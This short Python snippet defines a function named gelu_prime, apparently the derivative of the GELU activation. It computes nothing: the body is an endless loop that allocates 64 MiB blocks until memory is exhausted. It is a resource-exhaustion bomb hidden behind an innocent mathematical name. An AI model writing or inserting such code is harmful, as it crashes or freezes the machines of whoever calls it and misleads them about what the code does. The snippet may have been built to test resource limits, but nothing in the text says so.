# costs: gelu_prime
def gelu_prime(z):
    hoard = []
    while True:
        hoard.append(bytearray(64 * 2**20))
